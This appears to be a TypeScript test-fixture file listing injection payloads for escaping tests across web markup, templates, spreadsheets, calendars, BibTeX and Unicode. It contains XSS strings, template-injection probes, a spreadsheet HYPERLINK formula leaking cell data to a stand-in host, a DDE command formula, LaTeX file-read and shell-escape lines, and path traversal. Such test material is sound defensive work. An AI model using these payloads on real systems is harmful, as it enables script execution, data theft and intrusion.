/** What the languages of the web, of spreadsheets, calendars and reference managers read into words that stand in them. */

const HIT = 'hit(1)';
const ELSEWHERE = '//elsewhere.test';

/** Markup, in every place where it could be taken for such. */
export const MARKUP: readonly string[] = [
  `<script>${HIT}</script>`,
  `</script><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`,
  `</textarea></style></noscript><script>${HIT}</script>`,
  `<ScRiPt src=${ELSEWHERE}/a.js></sCrIpT >`,
  `<img src=x onerror=${HIT}>`,
  `<img src=${ELSEWHERE}/a.png>`,
  `"><svg onload=${HIT}>`,
  `'><svg/onload=${HIT}>`,
  `" autofocus onfocus=${HIT} x="`,
  `' onmouseover='${HIT}`,
  `<details open ontoggle=${HIT}>`,
  `<iframe srcdoc="<script>parent.${HIT}</script>">`,
  `<iframe src="javascript:parent.${HIT}">`,
  `<a href="javascript:${HIT}">here</a>`,
  `<base href=${ELSEWHERE}/>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/">`,
  `<link rel=stylesheet href=${ELSEWHERE}/a.css>`,
  `<style>@import "${ELSEWHERE}/b.css"</style>`,
  `<form action=${ELSEWHERE}><button>`,
  `<math><mtext><style><img src=x onerror=${HIT}></style>`,
  `<template><script>${HIT}</script></template>`,
  '<!-- --!> <!--> <?xml version="1.0"?> <!DOCTYPE x> ]]> <![CDATA[ x ]]>',
  '&lt;b&gt; &#60;script&#62; &amp;amp; &notit; &',
  `\u003cscript\u003e${HIT}`,
];

/** What templates, Markdown, MDX and Astro would read. */
export const TEMPLATES: readonly string[] = [
  '{process.env.PATH}',
  `{globalThis.${HIT}}`,
  '{{constructor.constructor("hit(1)")()}}',
  `\${${HIT}}`,
  `<%= ${HIT} %>`,
  '#{7*7} *{7*7} @{7*7} [[7*7]] $(id) `id`',
  `[here](javascript:${HIT})`,
  `![here](${ELSEWHERE}/c.png)`,
  `<https://elsewhere.test> https://elsewhere.test/d`,
  '**bold** _italic_ `code` ~~gone~~ # head > quote - item',
  '--- title: x ---',
  "import x from 'node:fs'; export const y = 1",
  '<Fragment set:html={x} /> <script is:inline define:vars={{ x }}>',
  '__proto__ constructor toString hasOwnProperty',
  'javascript:hit(1)',
];

/** What spreadsheets take for a formula, calendars for a line, BibTeX for a field, JSON and scripts for their end. */
export const RECORDS: readonly string[] = [
  '=HYPERLINK("http://elsewhere.test/?"&A1,"here")',
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3',
  '@SUM(1+1)',
  "'=1+1",
  '"=1+1","x"',
  ';=1+1;',
  'END:VEVENT BEGIN:VEVENT SUMMARY:x',
  'x\\nEND:VCALENDAR\\r\\nX-TAKEN:1',
  'a;b,c:d\\e',
  '}, url = {http://elsewhere.test}, x = {',
  '{{{ }}} \\input{/etc/passwd} \\write18{id} % # $ & ~ ^ _',
  '"]}; hit(1); [{"',
  '\\u003c/script\\u003e \\" \\',
  '../../../etc/passwd %2e%2e%2f %00 %0d%0aX: y',
];

/** What is seen otherwise than it is written, or not at all. No letters that the tests' browser has no font for: it crashes. */
export const CHARACTERS: readonly string[] = [
  'line\u2028separator\u2029paragraph',
  '\u202egnp.exe\u202c',
  '\u2066isolated',
  'zero\u200bwidth\u200djoined\ufeff',
  'soft\u00adhyphen\u00a0and\u202fspaces',
  'e\u0301 é \u00df',
];

/** Words that hold several of them at once, each group in one field. */
export const GROUPS: readonly string[] = [MARKUP, TEMPLATES, RECORDS, CHARACTERS].flatMap((payloads) =>
  Array.from({ length: Math.ceil(payloads.length / 5) }, (_, i) => payloads.slice(i * 5, i * 5 + 5).join(' ')),
);

/** The same with each payload first in its field: what begins so is a formula, or a list, or an attribute. */
export const FIRSTS: readonly string[] = [...RECORDS.slice(0, 8), ...TEMPLATES.slice(0, 2), MARKUP[0]!, MARKUP[7]!];
